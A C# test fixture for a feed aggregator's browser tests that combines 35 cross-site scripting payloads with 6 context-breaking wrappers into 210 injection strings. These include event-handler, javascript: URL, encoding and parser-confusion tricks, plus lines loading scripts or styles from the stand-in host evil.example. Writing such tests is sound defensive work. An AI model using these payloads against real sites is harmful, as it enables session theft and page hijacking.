namespace FeedAggregator.IntegrationTests.Browser;

/// <summary>Ways to run a script where text is put into a page without care: each payload in each disguise.</summary>
internal static class Vectors
{
    private static readonly string[] Payloads =
    [
        "<script>fired()</script>",
        "<script src=https://evil.example/x.js></script>",
        "<img src=x onerror=fired()>",
        "<svg onload=fired()>",
        "<svg><script>fired()</script></svg>",
        "<svg><animate onbegin=fired() attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=fired()>",
        "<iframe srcdoc=\"<script>parent.fired()</script>\"></iframe>",
        "<iframe src=javascript:parent.fired()></iframe>",
        "<object data=javascript:fired()></object>",
        "<embed src=javascript:fired()>",
        "<a href=javascript:fired()>x</a>",
        "<a href=\"java\nscript:fired()\">x</a>",
        "<a href=\"&#106;avascript:fired()\">x</a>",
        "<a href=data:text/html,<script>fired()</script>>x</a>",
        "<form action=javascript:fired()><input type=submit autofocus onfocus=fired()></form>",
        "<input autofocus onfocus=fired()>",
        "<details open ontoggle=fired()>",
        "<video><source onerror=fired()></video>",
        "<audio src=x onerror=fired()>",
        "<body onload=fired()>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:fired()\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
        "<marquee onstart=fired()>x</marquee>",
        "<noscript><p title=\"</noscript><img src=x onerror=fired()>\">",
        "<template><img src=x onerror=fired()></template>",
        "<textarea autofocus onfocus=fired()></textarea>",
        "<x onclick=fired() autofocus tabindex=1 onfocus=fired()>x</x>",
        "<isindex type=image src=1 onerror=fired()>",
        "<p onmouseover=fired()>x</p>",
        "<![CDATA[<script>fired()</script>]]>",
        "<!--><script>fired()</script>-->",
    ];

    private static readonly string[] Disguises =
        ["{0}", "\">{0}", "'>{0}", "</title></textarea></style></script>{0}", "--!>{0}<!--", "x\" {0} y=\""];

    /// <summary>All of them: two hundred and ten.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Payloads.SelectMany(payload => Disguises.Select(disguise => disguise.Replace("{0}", payload, StringComparison.Ordinal)))];
}
